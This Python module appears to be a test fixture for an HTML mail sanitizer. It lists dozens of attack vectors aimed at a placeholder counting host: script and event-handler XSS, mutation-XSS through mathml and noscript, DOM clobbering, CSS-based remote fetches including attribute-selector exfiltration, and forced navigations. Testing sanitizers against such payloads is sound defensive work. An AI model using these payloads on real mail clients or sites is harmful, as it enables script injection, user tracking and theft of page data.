"""Mail that tries to run, to fetch and to navigate. `{c}` is an address that counts who comes.

Each entry is named after its attack. A script that runs says so in three ways: it fetches, it marks the page that
holds the frame, and it opens a dialog.
"""

RUN = "top.ran=1;fetch('{c}/ran');new Image().src='{c}/ran';alert(1)"

SCRIPTS = {
    "script element": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src='{c}/x.js'></script>",
    "module script": f"<script type=module>{RUN}</script>",
    "image that fails": f'<img src="x:" onerror="{RUN}">',
    "body that loads": f'<body onload="{RUN}">',
    "svg that loads": f'<svg onload="{RUN}">',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animation of a link": (
        "<svg><a><animate attributeName=href values='javascript:top.ran=1'/><text y=20>x</text></a></svg>"
    ),
    "svg use": "<svg><use href='{c}/x.svg#a'/></svg>",
    "details that toggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "focus of itself": f'<input autofocus onfocus="{RUN}">',
    "animation that starts": (
        f'<style>@keyframes x{{{{}}}}</style><b style="animation:x 1s" onanimationstart="{RUN}">x</b>'
    ),
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "video that fails": f'<video><source onerror="{RUN}"></video>',
    "frame with a script address": '<iframe src="javascript:top.ran=1"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object with a data document": "<object data='data:text/html,<script>top.ran=1</script>'></object>",
    "mutation through mathml": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={RUN}&gt;">'
    ),
    "mutation through noscript": f'<noscript><p title="</noscript><img src=x: onerror={RUN}>">',
    "mutation through a style string": (
        f'<style>a{{{{content:"\\3c/style>\\3cimg src=x: onerror={RUN}>"}}}}</style><a>x</a>'
    ),
    "mutation through a form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={RUN}>",
    "template": f'<template shadowrootmode=open><img src=x: onerror="{RUN}"></template>',
    "clobbered document": (
        "<form id=attributes><input name=attributes></form><img name=cookie><a id=documentElement>x</a>"
    ),
}

FETCHES = {
    "image": "<img src='{c}/a.png'>",
    "image of no scheme": "<img src='//{h}/a.png'>",
    "image set": "<img srcset='{c}/a.png 1x' src='{c}/b.png'>",
    "picture": "<picture><source srcset='{c}/a.png'><img src='{c}/b.png'></picture>",
    "background attribute": (
        "<body background='{c}/a.png'><table background='{c}/b.png'><tr><td>x</td></tr></table>"
    ),
    "style attribute": "<p style='background:url({c}/a.png)'>x</p>",
    "style attribute with escapes": r"<p style='background:u\72l({c}/a.png)'>x</p>",
    "style attribute with a variable": r"<p style='--a:u\72l({c}/a.png);background:var(--a)'>x</p>",
    "style attribute with a fallback": "<p style='background:var(--none,url({c}/a.png))'>x</p>",
    "image-set function": "<p style='background-image:image-set(\"{c}/a.png\" 1x)'>x</p>",
    "style sheet": "<style>p{{background:url({c}/a.png)}}</style><p>x</p>",
    "style sheet that nests": "<style>@media all{{div{{& p{{background:url({c}/a.png)}}}}}}</style><div><p>x</div>",
    "style sheet of the head": "<html><head><style>body{{background:url({c}/a.png)}}</style></head><body>x</body>",
    "imported style sheet": "<style>@import '{c}/a.css';@import url({c}/b.css);</style>",
    "linked style sheet": "<link rel=stylesheet href='{c}/a.css'>",
    "font": "<style>@font-face{{font-family:x;src:url({c}/a.woff)}}p{{font-family:x}}</style><p>x</p>",
    "attribute read out by selectors": (
        "<style>input[value^=a]{{background:url({c}/a.png)}}</style><input type=hidden><input value=abc>"
    ),
    "list, cursor and content": (
        "<style>li{{list-style:url({c}/a.png)}}b{{cursor:url({c}/b.cur),auto}}"
        "i::before{{content:url({c}/c.png)}}</style><ul><li>x</ul><b>x</b><i>x</i>"
    ),
    "filter and mask": "<p style='filter:url({c}/a.svg#f);mask:url({c}/b.svg#m);clip-path:url({c}/c.svg#c)'>x</p>",
    "prefetch": "<link rel=prefetch href='{c}/a'><link rel=preload as=image href='{c}/b'>",
    "preconnect": "<link rel=preconnect href='{c}'><link rel=modulepreload href='{c}/a.js'>",
    "icon and manifest": "<link rel=icon href='{c}/a.ico'><link rel=manifest href='{c}/a.json'>",
    "frame": "<iframe src='{c}/a.html'></iframe>",
    "frame set": "<frameset><frame src='{c}/a.html'></frameset>",
    "object and embed": "<object data='{c}/a'></object><embed src='{c}/b'>",
    "video, poster and track": "<video src='{c}/a' poster='{c}/b' autoplay><track default src='{c}/c'></video>",
    "audio": "<audio src='{c}/a' autoplay></audio>",
    "svg image": "<svg><image href='{c}/a.png'/><feImage href='{c}/b.png'/></svg>",
    "input image": "<input type=image src='{c}/a.png'>",
    "base": "<base href='{c}/'><img src='a.png'>",
    "comment that ends early": "<!--><img src='{c}/a.png'>-->",
    "second policy": "<meta http-equiv=Content-Security-Policy content='img-src *'><img src='{c}/a.png'>",
    "end of the head": "</head></html><img src='{c}/a.png'><script>top.ran=1</script>",
    "dns prefetch": "<meta http-equiv=x-dns-prefetch-control content=on><a href='{c}'>x</a>",
}

NAVIGATIONS = {
    "refresh": "<meta http-equiv=refresh content='0;url={c}/a'>",
    "refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:top.ran=1'>",
    "form that sends itself": "<form id=f action='{c}/a'><input name=a></form><script>f.submit()</script>",
    "script that leaves": "<script>top.location='{c}/a';location='{c}/b'</script>",
    "script that opens": "<script>open('{c}/a')</script>",
    "portal": "<portal src='{c}/a'></portal><fencedframe src='{c}/b'></fencedframe>",
}

VECTORS = SCRIPTS | FETCHES | NAVIGATIONS


def write_out(html: str, origins: list[str]) -> str:
    """Return a vector aimed at each origin in turn, for example `https://127.0.0.1:4430`."""
    return "".join(html.format(c=origin, h=origin.partition("//")[2]) for origin in origins)
